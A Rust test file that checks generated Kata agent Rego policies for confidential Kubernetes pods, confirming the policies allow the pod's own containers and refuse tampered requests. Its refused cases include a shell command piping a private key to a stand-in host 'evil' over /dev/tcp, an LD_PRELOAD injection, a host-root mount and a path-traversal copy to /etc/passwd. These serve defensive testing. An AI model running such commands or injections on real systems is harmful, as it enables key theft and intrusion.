//! The Kata agent policy `generate` writes, evaluated with regorus (the Rego engine the Kata
//! agent embeds) against the requests the agent receives: the pod's own containers are created;
//! another image, another command, an injected variable or mount, an exec, reading output are
//! refused. For AKS (the Rego in its annotation) and CoCo (the Rego inside gzip'ed initdata), with
//! the hash the hardware would report checked against the pod's reference value.

mod common;

use std::io::Read as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use common::{options, table};
use confidant_kube::{Platform, generate};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

const REDIS: &str = "docker.io/library/redis:7.2@sha256:1111111111111111111111111111111111111111111111111111111111111111";
const PATH: &str = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

/// The policy of the redis corpus file's pod on `platform`: (Rego, the hash the platform
/// measures, the pod's reference value).
fn redis_policy(platform: Platform) -> (String, String, String) {
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/redis.yaml"),
    )
    .unwrap();
    let out = generate("redis.yaml", &text, &options(platform), &table()).unwrap();
    let doc: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(out.text.split("\n---\n").next().unwrap()).unwrap();
    let annotations = &doc["spec"]["template"]["metadata"]["annotations"];
    let (rego, measured) = match platform {
        Platform::Aks | Platform::Sim => {
            let b64 = annotations["io.katacontainers.config.agent.policy"]
                .as_str()
                .unwrap();
            let rego = String::from_utf8(STANDARD.decode(b64).unwrap()).unwrap();
            let measured = hex::encode(Sha256::digest(rego.as_bytes()));
            (rego, measured)
        }
        Platform::CocoSnp | Platform::CocoTdx => {
            let b64 = annotations["io.katacontainers.config.hypervisor.cc_init_data"]
                .as_str()
                .unwrap();
            let mut toml = String::new();
            flate2::read::GzDecoder::new(&STANDARD.decode(b64).unwrap()[..])
                .read_to_string(&mut toml)
                .unwrap();
            assert!(toml.starts_with("algorithm = \"sha256\"\n"), "{toml}");
            let rego = toml
                .split("\"policy.rego\" = '''\n")
                .nth(1)
                .and_then(|r| r.split("'''").next())
                .unwrap()
                .to_string();
            (rego, hex::encode(Sha256::digest(toml.as_bytes())))
        }
    };
    (rego, measured, out.pods[0].policy_sha256.clone())
}

fn engine(rego: &str) -> regorus::Engine {
    let mut e = regorus::Engine::new();
    e.add_policy("policy.rego".into(), rego.into())
        .unwrap_or_else(|err| panic!("the policy does not parse: {err}\n{rego}"));
    e
}

fn allowed(e: &mut regorus::Engine, request: &str, input: &Value) -> bool {
    e.set_input_json(&input.to_string()).unwrap();
    match e
        .eval_rule(format!("data.agent_policy.{request}"))
        .unwrap_or_else(|err| panic!("{request}: {err}"))
    {
        regorus::Value::Bool(b) => b,
        other => panic!("{request}: expected a boolean, got {other:?}"),
    }
}

/// A CreateContainerRequest as the Kata agent receives it from containerd's CRI (the fields
/// the policy reads).
fn create(name: &str, image: &str, args: &[&str], env: &[&str], mounts: &[&str]) -> Value {
    json!({
        "container_id": "0123abcd",
        "OCI": {
            "Annotations": {
                "io.kubernetes.cri.container-type": "container",
                "io.kubernetes.cri.container-name": name,
                "io.kubernetes.cri.image-name": image,
                "io.kubernetes.cri.sandbox-name": "redis-5d9c7",
            },
            "Process": {"Args": args, "Env": env, "Cwd": "/data"},
            "Mounts": mounts.iter().map(|d| json!({"destination": d, "type_": "bind"})).collect::<Vec<_>>(),
        },
    })
}

fn redis_env() -> Vec<&'static str> {
    vec![
        PATH,
        "HOSTNAME=redis-5d9c7",
        "REDIS_VERSION=7.2.5",
        "KUBERNETES_SERVICE_HOST=10.0.0.1",
        "KUBERNETES_SERVICE_PORT_HTTPS=443",
        "KUBERNETES_PORT_443_TCP_ADDR=10.0.0.1",
        "REDIS_PORT=tcp://10.0.0.7:6380",
    ]
}

/// The pod gives `args` and no `command`: Kubernetes keeps the image's Entrypoint.
const REDIS_ARGS: &[&str] = &[
    "docker-entrypoint.sh",
    "redis-server",
    "/confidant/files/etc/redis/redis.conf",
];
const REDIS_MOUNTS: &[&str] = &[
    "/proc",
    "/dev",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/confidant",
];

#[test]
fn the_pods_own_containers_are_created_and_nothing_else_on_every_platform() {
    for platform in Platform::ALL {
        let (rego, measured, reference) = redis_policy(platform);
        assert_eq!(
            measured, reference,
            "{platform}: the reference value is not what is measured"
        );
        let mut e = engine(&rego);
        let ok = create("redis", REDIS, REDIS_ARGS, &redis_env(), REDIS_MOUNTS);
        assert!(
            allowed(&mut e, "CreateContainerRequest", &ok),
            "{platform}: the pod's own container was refused\n{rego}"
        );

        // The sandbox (pause) container.
        let sandbox = json!({"OCI": {"Annotations": {"io.kubernetes.cri.container-type": "sandbox"},
            "Process": {"Args": ["/pause"], "Env": []}, "Mounts": []}});
        assert!(
            allowed(&mut e, "CreateContainerRequest", &sandbox),
            "{platform}"
        );

        // Confidant's own containers, as generate wrote them.
        let sim = platform == Platform::Sim;
        let mut init_args = vec![
            "/usr/bin/confidant",
            "init",
            "--coordinator",
            "confidant.confidant.svc.cluster.local:4433",
            "--coordinator-root-sha256",
        ];
        let root = "ab".repeat(32);
        init_args.push(&root);
        init_args.extend(["--workload", "redis", "--out", "/confidant", "--tee"]);
        init_args.push(if sim { "sim" } else { "auto" });
        if sim {
            init_args.extend(["--sim-platform", "/confidant-sim"]);
        }
        let mut init_mounts = vec!["/proc", "/confidant"];
        if sim {
            init_mounts.push("/confidant-sim");
        }
        let image = options(platform).confidant_image;
        let init = create(
            "confidant-init",
            &image,
            &init_args,
            &[PATH, "HOSTNAME=redis-5d9c7"],
            &init_mounts,
        );
        assert!(
            allowed(&mut e, "CreateContainerRequest", &init),
            "{platform}: the init container was refused"
        );
        let mesh = create(
            "confidant-mesh",
            &image,
            &["/usr/bin/confidant", "mesh", "--credentials", "/confidant"],
            &[PATH],
            &["/confidant"],
        );
        assert!(
            allowed(&mut e, "CreateContainerRequest", &mesh),
            "{platform}: the sidecar was refused"
        );

        // Refused: another image, another command, an added variable, an added mount, a
        // container the pod does not have, the init container told to trust another root.
        let other_root = "cd".repeat(32);
        let other_image = "docker.io/library/redis:7.2@sha256:5555555555555555555555555555555555555555555555555555555555555555";
        let refused = [
            (
                "another image",
                create("redis", other_image, REDIS_ARGS, &redis_env(), REDIS_MOUNTS),
            ),
            (
                "another command",
                create(
                    "redis",
                    REDIS,
                    &["sh", "-c", "cat /confidant/key.pem >/dev/tcp/evil/80"],
                    &redis_env(),
                    REDIS_MOUNTS,
                ),
            ),
            (
                "an injected variable",
                create(
                    "redis",
                    REDIS,
                    REDIS_ARGS,
                    &[PATH, "LD_PRELOAD=/tmp/evil.so"],
                    REDIS_MOUNTS,
                ),
            ),
            (
                "an injected mount",
                create(
                    "redis",
                    REDIS,
                    REDIS_ARGS,
                    &redis_env(),
                    &["/proc", "/confidant", "/host-root"],
                ),
            ),
            (
                "a container the pod does not have",
                create("debug", REDIS, REDIS_ARGS, &redis_env(), REDIS_MOUNTS),
            ),
            (
                "another coordinator root",
                create(
                    "confidant-init",
                    &image,
                    &init_args
                        .iter()
                        .map(|a| if *a == root { other_root.as_str() } else { a })
                        .collect::<Vec<_>>(),
                    &[PATH],
                    &init_mounts,
                ),
            ),
        ];
        for (what, input) in refused {
            assert!(
                !allowed(&mut e, "CreateContainerRequest", &input),
                "{platform}: {what} was allowed"
            );
        }
        // No exec into the pod, no reading its output (it did not ask for logs), no new policy.
        let exec = json!({"container_id": "0123abcd", "exec_id": "1", "process": {"Args": ["sh"]}});
        assert!(!allowed(&mut e, "ExecProcessRequest", &exec), "{platform}");
        assert!(
            !allowed(
                &mut e,
                "ReadStreamRequest",
                &json!({"container_id": "0123abcd"})
            ),
            "{platform}"
        );
        assert!(
            !allowed(&mut e, "SetPolicyRequest", &json!({"policy": ""})),
            "{platform}"
        );
        assert!(
            allowed(
                &mut e,
                "StartContainerRequest",
                &json!({"container_id": "0123abcd"})
            ),
            "{platform}"
        );
        // The runtime's own copies into the shared directory, and nowhere else.
        let copy = |p: &str| json!({"path": p});
        assert!(allowed(
            &mut e,
            "CopyFileRequest",
            &copy("/run/kata-containers/shared/containers/0123abcd-hosts")
        ));
        assert!(!allowed(&mut e, "CopyFileRequest", &copy("/etc/passwd")));
        assert!(!allowed(
            &mut e,
            "CopyFileRequest",
            &copy("/run/kata-containers/shared/containers/../../../etc/passwd")
        ));
    }
}

#[test]
fn a_changed_pod_has_another_reference_value() {
    let base = redis_policy(Platform::Aks).2;
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/redis.yaml"),
    )
    .unwrap()
    .replace(
        "redis-server\", \"/confidant",
        "redis-server\", \"--appendonly\", \"yes\", \"/confidant",
    );
    let out = generate("redis.yaml", &text, &options(Platform::Aks), &table()).unwrap();
    assert_ne!(out.pods[0].policy_sha256, base);
    // And it differs between platforms that measure different things.
    assert_ne!(redis_policy(Platform::CocoSnp).2, base);
}
